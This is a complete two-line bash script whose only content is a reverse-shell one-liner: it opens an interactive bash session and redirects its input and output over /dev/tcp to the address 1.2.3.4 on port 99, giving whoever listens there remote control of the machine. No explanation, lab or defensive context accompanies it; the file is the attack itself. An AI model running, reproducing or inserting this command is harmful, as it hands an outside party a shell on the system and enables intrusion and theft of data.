#!/bin/bash
bash -i >& /dev/tcp/1.2.3.4/99 0>&1
